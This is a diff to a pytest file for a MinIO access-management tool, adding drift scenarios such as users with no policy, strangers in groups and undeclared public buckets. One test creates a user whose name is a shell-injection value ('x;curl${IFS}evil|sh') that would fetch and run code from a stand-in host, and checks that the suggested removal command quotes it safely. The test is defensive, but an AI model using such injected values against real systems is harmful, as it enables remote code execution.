@@ -1,12 +1,14 @@
-"""A whole document: its order, what it removes, twenty disorders that it finds and mends, and what it costs."""
+"""A whole document: its order, what it removes, the disorders that it finds and mends, and what it costs."""
 
 from __future__ import annotations
 
 import copy
 import json
+import shlex
 import time
 
 import pytest
+import requests
 from botocore.exceptions import ClientError
 
 SECRET = "horse-battery-staple"
@@ -37,6 +39,7 @@ DOCUMENT = {
     "users": [
         {"name": "reader", "secret": SECRET, "policies": ["read"], "enabled": True},
         {"name": "writer", "secret": SECRET, "policies": ["read", "write"], "enabled": True},
+        {"name": "guest", "secret": SECRET},
     ],
     "groups": [{"name": "team", "members": ["reader", "writer"], "policies": ["read"], "enabled": True}],
     "service_accounts": [
@@ -67,6 +70,10 @@ def disorders(minio):
         admin.policy_add("stray-held", policy=stray)
         admin.attach_policy(["stray-held"], user="reader")
 
+    def stranger_in_group():
+        admin.user_add("stranger", SECRET)
+        admin.group_add("team", ["stranger"])
+
     def stray_group():
         admin.group_add("stray-team", ["reader"])
 
@@ -82,9 +89,11 @@ def disorders(minio):
         ("user removed", lambda: admin.user_remove("reader"), ["user reader", "group team"]),
         ("secret changed", lambda: admin.user_add("writer", "another-horse"), ["user writer"]),
         ("stray user", lambda: admin.user_add("stray-user", SECRET), ["user stray-user"]),
-        ("member removed", lambda: admin.group_remove("team", ["reader"]), ["group team"]),
+        ("member removed", lambda: admin.group_remove("team", ["reader"]), ["user reader", "group team"]),
         ("group disabled", lambda: admin.group_disable("team"), ["group team"]),
-        ("stray group", stray_group, ["group stray-team"]),
+        ("stray group", stray_group, ["user reader", "group stray-team"]),
+        ("policy of a user without any", lambda: admin.attach_policy(["write"], user="guest"), ["user guest"]),
+        ("stranger in a group", stranger_in_group, ["group team", "user stranger"]),
         ("quota off", lambda: admin.bucket_quota_clear("results"), ["bucket results"]),
         (
             "versioning suspended",
@@ -99,6 +108,11 @@ def disorders(minio):
         ),
         ("encryption off", lambda: s3.delete_bucket_encryption(Bucket="results"), ["bucket results"]),
         ("made public", lambda: s3.put_bucket_policy(Bucket="results", Policy=public), ["bucket results"]),
+        (
+            "made public, with nothing said of it",
+            lambda: s3.put_bucket_policy(Bucket="locked", Policy=public.replace("results", "locked")),
+            ["bucket locked"],
+        ),
         (
             "retention lifted",
             lambda: s3.put_object_lock_configuration(
@@ -139,7 +153,7 @@ def test_document_is_applied_in_one_run(minio, converges):
         minio.s3("nightly-key", SECRET).get_object(Bucket="results", Key="x")
 
 
-@pytest.mark.parametrize("index", range(25))
+@pytest.mark.parametrize("index", range(28))
 def test_disorder_is_named_mended_and_gone(minio, tidy, run, index):
     name, make, differing = disorders(minio)[index]
     make()
@@ -150,7 +164,7 @@ def test_disorder_is_named_mended_and_gone(minio, tidy, run, index):
     assert not run("minio_access", **DOCUMENT).changed
 
 
-def test_twenty_five_disorders_at_once(minio, tidy, run):
+def test_all_disorders_at_once(minio, tidy, run):
     made = disorders(minio)
     # Those that undo another, or need what another removes, have been seen alone.
     left_out = {"user removed", "policy detached", "policy of a group detached", "service account removed"}
@@ -178,6 +192,30 @@ def test_nothing_is_removed_without_prune(minio, tidy, run):
     minio.admin.user_add("stray-user", SECRET)
     assert not run("minio_access", **DOCUMENT | {"prune": False}).changed
     assert "stray-user" in minio.users()
+
+
+def test_open_bucket_that_nobody_declared_is_told(minio, tidy, run):
+    s3, anyone = minio.s3(), {"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject"}
+    s3.create_bucket(Bucket="open-stray")
+    s3.put_object(Bucket="open-stray", Key="object", Body=b"bytes")
+    statement = anyone | {"Resource": "arn:aws:s3:::open-stray/*"}
+    s3.put_bucket_policy(Bucket="open-stray", Policy=json.dumps({"Version": "2012-10-17", "Statement": [statement]}))
+    assert requests.get(f"{minio.endpoint}/open-stray/object").status_code == 200
+    for kept in ([], ["bucket open-*"]):  # what may be there is not therefore to be open
+        told = run("minio_access", True, **DOCUMENT | {"prune_except": [*DOCUMENT["prune_except"], *kept]}).undeclared
+        remove = "mc anonymous set none ALIAS/open-stray"
+        assert {"kind": "MinIO bucket open to everybody", "name": "open-stray", "remove": remove} in told
+    s3.delete_bucket_policy(Bucket="open-stray")
+    assert all("open" not in each["kind"] for each in run("minio_access", True, **DOCUMENT).undeclared)
+
+
+def test_command_to_copy_does_what_it_says(minio, tidy, run):
+    name = "x;curl${IFS}evil|sh"
+    minio.admin.user_add(name, SECRET)
+    (told,) = [
+        each for each in run("minio_access", True, **DOCUMENT | {"prune": False}).undeclared if each["name"] == name
+    ]
+    assert shlex.split(told["remove"]) == ["mc", "admin", "user", "remove", "ALIAS", name]
 
 
 def test_error_in_the_document_stops_before_the_first_change(minio, tidy, run):
